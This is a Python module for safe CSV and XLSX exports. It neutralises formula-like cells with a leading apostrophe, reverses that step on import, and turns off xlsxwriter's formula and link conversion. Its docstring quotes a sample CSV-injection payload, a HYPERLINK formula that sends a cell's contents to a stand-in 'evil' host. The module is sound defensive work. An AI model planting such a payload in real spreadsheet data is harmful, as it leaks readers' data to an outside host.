"""Exports that cannot attack their reader: CSV and XLSX cells are never formulas.

A spreadsheet program treats a CSV cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return as a formula (OWASP "CSV injection"): a register entry such as
``=HYPERLINK("http://evil/?"&A1,"Click")`` would run when a board secretary opens the export.

- **CSV**: such a text is written with a leading apostrophe (``'=HYPERLINK(...)``), which
  spreadsheet programs show as text. Numbers stay numbers: a plain number such as ``-5`` or
  ``+3.2`` is not changed, nor is a lone ``-`` (a dash meaning "none").
- **XLSX**: every text is written as a text cell (never a formula, never a link);
  :func:`workbook` makes an xlsxwriter workbook that does so for ``write``/``write_row`` too.

The CSV rule is reversible, so an export re-imports as the original text: :func:`from_csv`
removes the apostrophe that :func:`to_csv` added. A text that already starts with apostrophes
before a formula character gets one more, so ``'=x`` round-trips too.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

#: the characters that make a spreadsheet program read a cell as a formula
FORMULA_START = frozenset("=+-@\t\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def is_formula_like(text: str) -> bool:
    """True where a spreadsheet program could read ``text`` (after any apostrophes) as a formula."""
    body = text.lstrip("'")
    if not body or body[0] not in FORMULA_START:
        return False
    if body == text and _PLAIN_NUMBER.fullmatch(text):
        return False  # a number is a number
    return body not in ("-", "+")  # a lone dash means "none"


def to_csv(value: Any) -> Any:
    """One CSV cell, neutralised: formula-like text gets a leading apostrophe."""
    if isinstance(value, str) and is_formula_like(value):
        return "'" + value
    return value


def csv_row(values: Iterable[Any]) -> list[Any]:
    """A CSV row with every text cell neutralised (numbers and empty cells unchanged)."""
    return [to_csv(v) for v in values]


def from_csv(text: str) -> str:
    """The original text of a cell that :func:`to_csv` wrote."""
    if text.startswith("'") and is_formula_like(text[1:]):
        return text[1:]
    return text


def workbook(target: Any, options: dict[str, Any] | None = None) -> Any:
    """An xlsxwriter workbook that writes every text as text: no formulas, links or numbers
    made from strings."""
    import xlsxwriter

    settings = {
        "strings_to_formulas": False,
        "strings_to_urls": False,
        "strings_to_numbers": False,
        **(options or {}),
    }
    return xlsxwriter.Workbook(target, settings)
